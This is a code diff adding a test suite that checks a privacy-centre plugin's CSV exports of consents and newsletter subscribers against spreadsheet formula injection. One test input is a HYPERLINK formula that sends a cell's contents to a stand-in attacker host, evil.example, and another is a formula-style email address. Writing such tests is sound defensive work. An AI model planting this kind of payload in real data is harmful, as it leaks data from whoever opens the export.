@@ -93,3 +93,30 @@ describe('e-mail header and recipient injection through the subscribed address',
     expect((await app.http().post('/api/privacy-centre/newsletter/subscribe').send({ email: 'Anna.Virtanen+news@Example.COM' })).status).toBe(202);
   });
 });
+
+describe('CSV injection into the exports the DPO opens in a spreadsheet', () => {
+  const csvOf = (path: string) =>
+    app.http().get(`/privacy-centre${path}`).set('Authorization', `Bearer ${token}`).buffer(true).parse((res, done) => {
+      let text = '';
+      res.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
+      res.on('end', () => done(null, text));
+    });
+
+  it('a user agent or an address written as a formula is exported as text', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?d="&A2,"Open")';
+    const recorded = await app.http().post('/api/privacy-centre/consents').set('User-Agent', formula)
+      .send({ state: { statistics: false, marketing: false, preferences: false } });
+    expect(recorded.status).toBe(201);
+    const consents = (await csvOf('/consents/export?format=csv')).body as string;
+    expect(consents).toContain(`'=HYPERLINK(`);
+    expect(consents).not.toMatch(/(^|,)"?=HYPERLINK/m);
+
+    expect((await app.http().post('/api/privacy-centre/newsletter/subscribe').send({ email: '=1+2@example.com' })).status).toBe(202);
+    await app.strapi.plugin('privacy-centre').service('newsletter').drain();
+    const subscribers = (await csvOf('/newsletter/export?format=csv')).body as string;
+    expect(subscribers).toContain(`'=1+2@example.com`);
+    expect(subscribers).not.toMatch(/(^|,)"?=1\+2@/m);
+    // Ordinary values are untouched.
+    expect(subscribers).toContain('Anna.Virtanen+news@example.com');
+  });
+});
